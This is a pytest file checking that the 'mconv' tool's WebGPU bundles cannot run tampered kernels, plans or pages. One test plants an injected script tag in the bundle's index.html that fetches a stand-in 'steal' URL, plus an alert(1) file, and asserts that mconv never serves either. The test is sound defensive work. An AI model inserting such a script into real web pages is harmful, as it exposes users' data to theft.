"""A webgpu bundle is data: `mconv run` and `mconv verify` compile only WGSL mconv regenerates
from the bundle's graph, and the browser path serves mconv's own page, never the bundle's."""

from __future__ import annotations

import hashlib
import json
import shutil
import sys
from pathlib import Path

import pytest
from mconv.bundle import load_bundle, manifest_bytes
from mconv.cli.app import app
from mconv.errors import InputError
from mconv.irio import load_onnx
from mconv.targets.webgpu import GRAPH, PLAN, TARGET, read_plan
from mconv.targets.webgpu import naga as nagamod
from mconv.targets.webgpu.browser import WEB, stage_site
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))  # tests/
from _system import needs_webgpu_adapter  # noqa: E402

ROOT = Path(__file__).resolve().parents[3]
DIGITS = ROOT / "fixtures" / "digits_mlp.onnx"


needs_adapter = needs_webgpu_adapter


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    return TARGET.export(load_onnx(DIGITS), tmp_path_factory.mktemp("webgpu") / "digits").root


@pytest.fixture()
def bundle(exported, tmp_path) -> Path:
    dest = tmp_path / "bundle"
    shutil.copytree(exported, dest)
    return dest


def _rehash(bundle: Path, rel: str) -> None:
    """What an attacker does after editing ``rel``: fix its size and sha256 in the manifest."""
    mpath = bundle / "manifest.json"
    manifest = json.loads(mpath.read_bytes())
    data = (bundle / rel).read_bytes()
    manifest["files"][rel] = {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    mpath.write_bytes(manifest_bytes(manifest))


def _edit(bundle: Path, rel: str, text: str) -> None:
    (bundle / rel).write_text(text)
    _rehash(bundle, rel)


def _cli(*args: str):
    return CliRunner().invoke(app, [*args, "-q"])


def _refused(bundle: Path) -> list[str]:
    """``mconv run B`` and ``mconv verify MODEL B``: exit 2 with one line each; the lines."""
    lines = []
    for args in (("run", str(bundle)), ("verify", str(DIGITS), str(bundle))):
        r = _cli(*args)
        assert r.exit_code == 2, r.output
        out = [ln for ln in r.output.splitlines() if ln.strip()]
        assert len(out) == 1 and out[0].startswith("error: ") and "Traceback" not in r.output, r.output
        lines.append(out[0])
    return lines


def _first_kernel(bundle: Path) -> str:
    return f"kernels/{read_plan(load_bundle(bundle)).layers[0].kernel}.wgsl"


@needs_adapter
def test_an_untampered_bundle_runs_and_verifies(bundle):
    for args in (("run", str(bundle)), ("verify", str(DIGITS), str(bundle))):
        r = _cli(*args)
        assert r.exit_code == 0, r.output
    assert GRAPH in json.loads((bundle / "manifest.json").read_bytes())["files"]


def test_a_tampered_wgsl_kernel_is_never_compiled(bundle):
    rel = _first_kernel(bundle)
    text = (bundle / rel).read_text()
    # valid WGSL that computes something else: shipped text mconv did not generate
    _edit(bundle, rel, text + "\nfn mconv_extra() -> f32 { return 1.0; }\n")
    lines = _refused(bundle)
    assert all(f"{rel} is not what mconv generates" in ln and "re-export" in ln for ln in lines), lines
    with pytest.raises(InputError, match="not what mconv generates"):
        nagamod.check_bundle(bundle, Path("/nonexistent"))


def test_a_tampered_plan_is_refused(bundle):
    plan = json.loads((bundle / PLAN).read_bytes())
    plan["layers"][0]["grid"] = [1, 1, 1]
    _edit(bundle, PLAN, json.dumps(plan, sort_keys=True, indent=2) + "\n")
    lines = _refused(bundle)
    assert all(f"{PLAN} is not what mconv generates" in ln for ln in lines), lines


def test_a_plan_nested_50000_deep_is_one_line_exit_2(bundle):
    _edit(bundle, PLAN, "[" * 50000 + "]" * 50000)
    _refused(bundle)
    with pytest.raises(InputError, match="nest"):
        read_plan(load_bundle(bundle))


def test_a_bundle_without_its_graph_is_refused(bundle):
    (bundle / GRAPH).unlink()
    mpath = bundle / "manifest.json"
    manifest = json.loads(mpath.read_bytes())
    del manifest["files"][GRAPH]
    mpath.write_bytes(manifest_bytes(manifest))
    lines = _refused(bundle)
    assert all(GRAPH in ln and "re-export" in ln for ln in lines), lines


def test_the_page_served_is_mconvs_never_the_bundles(bundle, tmp_path):
    hostile = "<script>fetch('http://example.invalid/steal')</script>\n"
    _edit(bundle, "index.html", hostile)
    _edit(bundle, "mconv_webgpu.js", "export function main() { /* the bundle's own code */ }\n")
    (bundle / "extra.js").write_text("alert(1)\n")  # unlisted: never served either
    site = stage_site(bundle, tmp_path / "site")
    for name in ("index.html", "mconv_webgpu.js", "mcw.js"):
        assert (site / name).read_bytes() == (WEB / name).read_bytes()
    assert not (site / "extra.js").exists() and not (site / GRAPH).exists()
    assert (site / "weights.mcw").read_bytes() == (bundle / "weights.mcw").read_bytes()


def test_the_page_is_not_staged_for_tampered_kernels(bundle, tmp_path):
    rel = _first_kernel(bundle)
    _edit(bundle, rel, (bundle / rel).read_text().replace("fn ", "fn  ", 1))
    with pytest.raises(InputError, match="not what mconv generates"):
        stage_site(bundle, tmp_path / "site")
    assert not (tmp_path / "site").exists()
